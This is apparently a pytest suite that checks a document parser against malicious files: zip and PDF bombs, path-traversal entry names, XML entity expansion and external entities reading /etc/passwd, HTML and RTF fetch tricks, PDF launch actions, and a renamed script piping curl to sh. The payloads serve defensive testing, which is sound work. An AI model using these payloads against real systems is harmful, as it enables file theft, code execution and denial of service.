"""Files made to do harm: each fails for its own reason, or says no more than it may."""

import gzip
import os
import re
import socket
import sys
import zipfile
import zlib
from collections.abc import Callable, Mapping
from io import BytesIO
from pathlib import Path

import pytest

from tests.documents.minimal import (
    DOCUMENTS,
    SENTENCE,
    XML,
    Parts,
    compound,
    docx_parts,
    epub_parts,
    locked_pdf,
    pdf,
    pptx_parts,
    stream,
    xlsx_parts,
    zipped,
)
from tests.documents.reading import bounded, outcome, text

PACKAGES: Mapping[str, Callable[..., Parts]] = {
    "docx": docx_parts,
    "xlsx": xlsx_parts,
    "pptx": pptx_parts,
    "epub": epub_parts,
}
MAIN = {
    "docx": "word/document.xml",
    "xlsx": "xl/worksheets/sheet1.xml",
    "pptx": "ppt/slides/slide1.xml",
    "epub": "a.xhtml",
}
BODIES: Mapping[str, Callable[[str], str]] = {
    "docx": lambda given: f"<w:p><w:r><w:t>{given}</w:t></w:r></w:p>",
    "xlsx": lambda given: f'<row><c t="inlineStr"><is><t>{given}</t></is></c></row>',
    "pptx": lambda given: (
        f"<p:sp><p:spPr/><p:txBody><a:bodyPr/><a:p><a:r><a:t>{given}</a:t></a:r></a:p></p:txBody></p:sp>"
    ),
    "epub": lambda given: f"<p>{given}</p>",
}
SPACES = b" " * (64 << 20)
ELF = Path(sys.executable).read_bytes()[:100_000]
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(200) + b"PE\x00\x00" + bytes(4_000)
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid | sh\n"


# Bombs.


@pytest.mark.parametrize("extension", PACKAGES)
def test_a_container_that_unpacks_to_a_thousand_times_its_size_is_not_read(tmp_path: Path, extension: str) -> None:
    parts = PACKAGES[extension]()
    main = str(parts[MAIN[extension]]).encode()
    content = zipped({**parts, MAIN[extension]: main + SPACES})
    assert outcome(tmp_path, content, extension) == "too_complex"


@pytest.mark.parametrize("extension", PACKAGES)
def test_a_container_is_measured_whole(tmp_path: Path, extension: str) -> None:
    parts = {**PACKAGES[extension](), "a.bin": os.urandom(600_000), "b.bin": os.urandom(600_000)}
    assert outcome(tmp_path, zipped(parts), extension, bounded(unpacked=1_000_000)) == "too_complex"


@pytest.mark.parametrize("extension", PACKAGES)
def test_a_container_has_not_any_number_of_parts(tmp_path: Path, extension: str) -> None:
    parts = {**PACKAGES[extension](), **{f"{each}.xml": "" for each in range(200)}}
    assert outcome(tmp_path, zipped(parts), extension, bounded(entries=100)) == "too_complex"
    assert SENTENCE in text(outcome(tmp_path, zipped(parts), extension, bounded(entries=300)))


@pytest.mark.parametrize("extension", PACKAGES)
def test_a_directory_that_tells_less_than_there_is_is_found_out(tmp_path: Path, extension: str) -> None:
    parts = PACKAGES[extension]()
    main = str(parts[MAIN[extension]]).encode() + SPACES[: 8 << 20]
    content = zipped({**parts, MAIN[extension]: main})
    lying = content.replace(len(main).to_bytes(4, "little"), (1_000).to_bytes(4, "little"))
    assert lying != content
    assert outcome(tmp_path, lying, extension) == "damaged"


def test_parts_that_share_their_bytes_are_measured_each(tmp_path: Path) -> None:
    content = bytearray(zipped({**docx_parts(), "a.bin": bytes(900_000)}))
    end = content.rindex(b"PK\x05\x06")
    begin = int.from_bytes(content[end + 16 : end + 20], "little")
    last = content[content.rindex(b"PK\x01\x02") : end]
    more = b"".join(last.replace(b"a.bin", b"%05d" % each) for each in range(50))
    count, size = 4 + 50, end - begin + len(more)
    tail = b"PK\x05\x06" + bytes(4) + count.to_bytes(2, "little") * 2 + size.to_bytes(4, "little")
    bomb = bytes(content[:end]) + more + tail + begin.to_bytes(4, "little") + bytes(2)
    assert outcome(tmp_path, bomb, "docx", bounded(unpacked=20_000_000)) in {"too_complex", "damaged"}


@pytest.mark.parametrize("extension", PACKAGES)
def test_containers_within_containers_are_not_unpacked(tmp_path: Path, extension: str) -> None:
    inner = gzip.compress(SPACES)
    for _ in range(30):
        inner = zipped({"a.zip": inner, "b.docx": inner[:1_000]})
    parts = {**PACKAGES[extension](), "word/embeddings/a.zip": inner, "word/embeddings/b.docx": zipped(docx_parts())}
    assert SENTENCE in text(outcome(tmp_path, zipped(parts, zipfile.ZIP_STORED), extension))


@pytest.mark.parametrize("extension", PACKAGES)
@pytest.mark.parametrize("name", ["../../etc/cron.d/x", "/etc/passwd", "C:\\x", "a\\..\\..\\x"])
def test_names_that_lead_out_of_a_container_are_refused(tmp_path: Path, extension: str, name: str) -> None:
    assert outcome(tmp_path, zipped({**PACKAGES[extension](), name: "x"}), extension) == "damaged"


@pytest.mark.parametrize("extension", PACKAGES)
def test_parts_nested_without_end_are_refused_or_read(tmp_path: Path, extension: str) -> None:
    deep = "<a>" * 200_000 + SENTENCE + "</a>" * 200_000
    found = outcome(tmp_path, zipped(PACKAGES[extension](BODIES[extension](deep))), extension, bounded(ratio=1_000))
    assert isinstance(found, list) or found in {"too_complex", "damaged", "no_text"}


@pytest.mark.parametrize(
    ("extension", "content"),
    [
        ("html", b"<div>" * 200_000 + SENTENCE.encode()),
        ("html", b"<table><tr><td>" * 20_000 + SENTENCE.encode()),
        ("html", b"<head>" * 300_000),
        ("html", b"<title>" * 300_000),
        ("html", b"<a " * 500_000),
        ("html", b"<!--" * 500_000),
        ("html", b"&" * 2_000_000),
        ("html", b"<p " + b"a=b " * 500_000 + b">" + SENTENCE.encode()),
        ("rtf", b"{\\rtf1 " + b"{" * 1_000_000),
        ("rtf", b"{\\rtf1 " + b"{\\b " * 200_000 + SENTENCE.encode() + b"}" * 200_001),
        ("rtf", b"{\\rtf1 \\bin2147483647 " + bytes(3_000_000) + b"}"),
        ("rtf", b"{\\rtf1 " + b"\\u99999999999999999999?" * 10_000 + b"}"),
        ("rtf", b"{\\rtf1{\\fonttbl" * 200_000),
        ("md", b"> " * 100_000 + SENTENCE.encode()),
        ("md", b"[" * 1_000_000),
        ("md", b"*_`" * 300_000),
        ("md", b"|" * 1_000_000),
        ("md", b"|-" * 500_000),
        ("md", b"#" * 1_000_000),
        ("md", b"![](" * 300_000),
        ("md", b"- " * 300_000),
        ("md", b"<" * 1_000_000),
        ("txt", b"a" * 5_000_000),
        ("txt", b"." * 2_000_000),
        ("txt", b"\n" * 5_000_000),
        ("txt", b" " * 5_000_000),
        ("txt", b"(" * 1_000_000),
        ("txt", "。".encode() * 1_000_000),
        ("txt", "字".encode() * 1_000_000),
        ("txt", b"1. " * 500_000),
        ("txt", b'"' * 1_000_000),
        ("txt", "e\u0301".encode() * 1_000_000),
        ("txt", ("e" + "\u0301" * 1_000_000).encode()),
    ],
    ids=lambda given: given[:12].decode("utf-8", "replace") if isinstance(given, bytes) else given,
)
def test_a_text_of_one_thing_without_end_is_read_in_time(tmp_path: Path, extension: str, content: bytes) -> None:
    found = outcome(tmp_path, content, extension)
    assert isinstance(found, list) or found in {"no_text", "damaged", "wrong_type"}


# What it says that it is.


@pytest.mark.parametrize("extension", [*DOCUMENTS, "doc", "xls", "ppt", "mobi"])
@pytest.mark.parametrize("content", [ELF, PE, gzip.compress(ELF), b"7z\xbc\xaf\x27\x1c" + bytes(100)], ids=lambda _: "")
def test_a_renamed_executable_or_archive_is_of_the_wrong_type(tmp_path: Path, extension: str, content: bytes) -> None:
    assert outcome(tmp_path, content, extension) == "wrong_type"


@pytest.mark.parametrize("extension", sorted({*DOCUMENTS, "doc", "xls", "ppt", "mobi"} - {"txt", "md", "html"}))
def test_a_renamed_script_is_of_the_wrong_type(tmp_path: Path, extension: str) -> None:
    assert outcome(tmp_path, SCRIPT, extension) == "wrong_type"


@pytest.mark.parametrize("extension", [*DOCUMENTS, "doc", "mobi"])
def test_a_document_under_anothers_name_is_of_the_wrong_type(tmp_path: Path, extension: str) -> None:
    same = [{"xlsx", "xlsm"}, {"txt", "md", "html"}]
    for other, content in DOCUMENTS.items():
        if other != extension and not any({other, extension} <= each for each in same):
            assert outcome(tmp_path, content, extension) == "wrong_type", other


def test_older_office_files_are_told_apart(tmp_path: Path) -> None:
    streams = {"doc": "WordDocument", "xls": "Workbook", "ppt": "PowerPoint Document"}
    for extension in streams:
        for other, name in streams.items():
            if other != extension:
                assert outcome(tmp_path, compound({name: b""}), extension) == "wrong_type"
    assert outcome(tmp_path, compound({"WordDocument": b""}), "docx") == "wrong_type"


def test_nothing_is_empty(tmp_path: Path) -> None:
    for extension in [*DOCUMENTS, "doc", "mobi"]:
        assert outcome(tmp_path, b"", extension) == "empty"


@pytest.mark.parametrize("extension", ["txt", "md", "html"])
def test_bytes_are_no_text(tmp_path: Path, extension: str) -> None:
    assert outcome(tmp_path, bytes(range(256)) * 100, extension) == "wrong_type"


def test_what_is_no_file_is_not_opened(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("secret")
    for make in (lambda path: path.symlink_to(secret), os.mkfifo, Path.mkdir):
        folder = tmp_path / f"folder{len(list(tmp_path.iterdir()))}"
        folder.mkdir()
        make(folder / "a.txt")
        assert _outcome_of(folder / "a.txt") == "wrong_type"


def _outcome_of(path: Path) -> str:
    from shared.documents.parsing import SubprocessParser  # noqa: PLC0415
    from shared.documents.port import DocumentFailed  # noqa: PLC0415

    with pytest.raises(DocumentFailed) as failed:
        list(SubprocessParser(bounded()).parse(path, "txt"))
    return failed.value.code


# Passwords.


def _locked_zip() -> bytes:
    content = bytearray(zipped(docx_parts()))
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        for found in re.finditer(re.escape(sign), bytes(content)):
            content[found.start() + place] |= 1
    return bytes(content)


def _locked_book(what: str) -> bytes:
    lock = f'{XML}<encryption><CipherData><CipherReference URI="{what}"/></CipherData></encryption>'
    return zipped({**epub_parts(), "META-INF/encryption.xml": lock})


@pytest.mark.parametrize(
    ("extension", "content"),
    [
        ("pdf", locked_pdf()),
        ("docx", _locked_zip()),
        ("epub", _locked_book("a.xhtml")),
        *(
            (each, compound({"EncryptionInfo": b"", "EncryptedPackage": b"x" * 99}))
            for each in ("docx", "xlsx", "pptx")
        ),
        ("doc", compound({"WordDocument": b"\xec\xa5\xc1\x00" + bytes(7) + b"\x01"})),
        ("xls", compound({"Workbook": bytes.fromhex("09080400000605002f00040000000000")})),
        ("ppt", compound({"PowerPoint Document": b"", "EncryptedSummary": b""})),
        ("ppt", compound({"PowerPoint Document": b"", "Current User": bytes(12) + b"\xdf\xc4\xd1\xf3"})),
    ],
    ids=lambda given: given if isinstance(given, str) else "",
)
def test_what_asks_for_a_password_says_so(tmp_path: Path, extension: str, content: bytes) -> None:
    assert outcome(tmp_path, content, extension) == "encrypted"


def test_a_book_whose_fonts_are_scrambled_is_read(tmp_path: Path) -> None:
    assert SENTENCE in text(outcome(tmp_path, _locked_book("font.ttf"), "epub"))


# XML.

LAUGHS = (
    '<!DOCTYPE r [<!ENTITY a "ha ha ha ha ha ha ha ha ha ha ">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
OUTSIDE = '<!DOCTYPE r [<!ENTITY i SYSTEM "file:///etc/passwd">]>'
OUTSIDE_RULES = '<!DOCTYPE r SYSTEM "http://127.0.0.1:{port}/x.dtd" [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>'


@pytest.mark.parametrize("extension", PACKAGES)
def test_entities_are_not_multiplied(tmp_path: Path, extension: str) -> None:
    parts = PACKAGES[extension](BODIES[extension](f"{SENTENCE} &i;"), XML + LAUGHS)
    found = outcome(tmp_path, zipped(parts), extension)
    assert len(text(found)) < 10_000
    assert isinstance(found, list) or found in {"damaged", "too_complex", "no_text"}


@pytest.mark.parametrize("extension", PACKAGES)
def test_nothing_of_this_machine_is_put_into_a_document(tmp_path: Path, extension: str) -> None:
    parts = PACKAGES[extension](BODIES[extension](f"{SENTENCE} &i;"), XML + OUTSIDE)
    assert "root:" not in text(outcome(tmp_path, zipped(parts), extension))


@pytest.mark.parametrize(
    ("extension", "content"),
    [
        ("html", '<iframe src="file:///etc/passwd"></iframe><object data="/etc/passwd"></object><img src="{url}">'),
        ("html", '<link rel="stylesheet" href="{url}"><script src="{url}"></script><base href="{url}"><p>a</p>'),
        ("html", '<meta http-equiv="refresh" content="0;url={url}"><p background="{url}"><svg><image href="{url}"/>'),
        ("md", "![a](file:///etc/passwd)\n\n![b]({url})\n\n<!-- #include /etc/passwd -->"),
        ("rtf", r"{{\rtf1 {{\field{{\*\fldinst INCLUDETEXT /etc/passwd}}}}}}"),
        ("rtf", r"{{\rtf1 {{\field{{\*\fldinst INCLUDEPICTURE {url}}}}}}}"),
    ],
)  # fmt: skip
def test_nothing_that_a_page_names_is_fetched(tmp_path: Path, extension: str, content: str) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0)
        url = f"http://127.0.0.1:{server.getsockname()[1]}/"
        found = outcome(tmp_path, content.format(url=url).encode(), extension)
        with pytest.raises(BlockingIOError):
            server.accept()
    assert "root:" not in text(found)


@pytest.mark.parametrize("extension", PACKAGES)
def test_nothing_that_a_container_names_is_fetched(tmp_path: Path, extension: str) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0)
        url = f"http://127.0.0.1:{server.getsockname()[1]}/"
        link = (
            f'{XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="r9" Type="t/image" Target="{url}" TargetMode="External"/>'
            f'<Relationship Id="r8" Type="t/attachedTemplate" Target="file:///etc/passwd" TargetMode="External"/>'
            "</Relationships>"
        )
        body = f'<p>{SENTENCE}<img src="{url}"/><img src="file:///etc/passwd"/></p>' if extension == "epub" else None
        rules = XML + OUTSIDE_RULES.format(port=server.getsockname()[1])
        parts = PACKAGES[extension](body or BODIES[extension](SENTENCE), rules)
        found = outcome(tmp_path, zipped({**parts, "word/_rels/document.xml.rels": link}), extension)
        with pytest.raises(BlockingIOError):
            server.accept()
    assert "root:" not in text(found)


def test_macros_are_bytes(tmp_path: Path) -> None:
    found = text(outcome(tmp_path, DOCUMENTS["xlsm"], "xlsm"))
    assert SENTENCE in found
    assert "Auto_Open" not in found


# PDF.


def _deflated(content: bytes, times: int = 1) -> bytes:
    for _ in range(times):
        content = zlib.compress(content, 9)
    return stream(content, b"/Filter [" + b"/FlateDecode " * times + b"]")


FORM = stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 4 0 R >> >>")
MARK = b"<< /Title (a) /Parent 4 0 R /Next 5 0 R /Prev 5 0 R /First 5 0 R /Last 5 0 R /Dest [9 0 R /Fit] >>"
PDFS = {
    "bomb": pdf([_deflated(SPACES)]),
    "bomb in a bomb": pdf([_deflated(SPACES, 3)]),
    "drawing without end": pdf([_deflated(b"0 0 1 1 re f " * 100_000)]),
    "a form in itself": pdf([b"/X Do"], resources=b"/XObject << /X 4 0 R >>", extra=[FORM]),
    "forms that double": pdf(
        [b"/X4 Do"],
        resources=b"/XObject << /X4 4 0 R >>",
        extra=[
            stream(
                b"/Y Do /Y Do",
                b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /Y %d 0 R >> >>" % (each + 1),
            )
            for each in range(4, 44)
        ]
        + [stream(b"0 0 1 1 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]")],
    ),
    "a font of itself": pdf(
        [b"BT /F2 9 Tf (a) Tj ET"],
        resources=b"/Font << /F2 4 0 R >>",
        extra=[b"<< /Type /Font /Subtype /Type0 /DescendantFonts [4 0 R] /ToUnicode 4 0 R /Encoding /Identity-H >>"],
    ),
    "pages in themselves": pdf().replace(b"/Kids [4 0 R]", b"/Kids [2 0 R]"),
    "a billion pages": pdf().replace(b"/Count 1", b"/Count 1000000000"),
    "negative pages": pdf().replace(b"/Count 1", b"/Count -1"),
    "bookmarks in a ring": pdf(extra=[b"<< /Type /Outlines /First 5 0 R /Last 5 0 R >>", MARK]).replace(
        b"/Catalog", b"/Catalog /Outlines 4 0 R"
    ),
    "contents in themselves": pdf([b"<< /Length 5 0 R >>\nstream\nx\nendstream"]),
    "a page as large as it gets": pdf().replace(b"[0 0 612 792]", b"[-1e38 -1e38 1e38 1e38]"),
    "arrays in arrays": pdf([b"[" * 1_000_000]),
    "a table that leads astray": pdf().replace(b"startxref\n", b"startxref\n9"),
    "an action on opening": pdf().replace(
        b"/Catalog", b"/Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) /Next << /S /URI /URI (http://a) >> >>"
    ),
    "a launch": pdf().replace(b"/Catalog", b"/Catalog /OpenAction << /S /Launch /F (/bin/sh) >>"),
    "a text longer than pages are": pdf([b"BT /F1 1 Tf " + b"(aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) Tj " * 20_000 + b"ET"]),
}  # fmt: skip


@pytest.mark.parametrize("name", PDFS)
def test_a_pdf_made_to_exhaust_its_reader_is_read_or_refused_in_time(tmp_path: Path, name: str) -> None:
    found = outcome(tmp_path, PDFS[name], "pdf")
    assert isinstance(found, list) or found in {"too_complex", "damaged", "no_text", "too_long", "not_readable_here"}


def test_a_pdf_has_not_any_number_of_pages(tmp_path: Path) -> None:
    assert outcome(tmp_path, pdf([b"BT /F1 9 Tf (page) Tj ET"] * 20), "pdf", bounded(pages=10)) == "too_long"


def test_a_pdf_is_read_without_what_follows_its_end_and_never_without_its_end(tmp_path: Path) -> None:
    assert SENTENCE in text(outcome(tmp_path, pdf() + b"\r\n\0\0", "pdf"))
    assert outcome(tmp_path, pdf().replace(b"%%EOF", b""), "pdf") == "damaged"


def test_a_compound_file_whose_chains_are_rings_is_damaged(tmp_path: Path) -> None:
    content = bytearray(compound({"WordDocument": b"x" * 9_000}))
    for place in range(512, 1024, 4):
        content[place : place + 4] = (1).to_bytes(4, "little")
    assert outcome(tmp_path, bytes(content), "doc") == "damaged"


def test_a_large_part_that_is_packed_as_text_is_read(tmp_path: Path) -> None:
    rows = "".join(
        f'<row><c><v>{each}</v></c><c t="inlineStr"><is><t>w{each}</t></is></c></row>' for each in range(30_000)
    )
    file = BytesIO(zipped(xlsx_parts(rows)))
    assert "w29999" in text(outcome(tmp_path, file.getvalue(), "xlsx"))
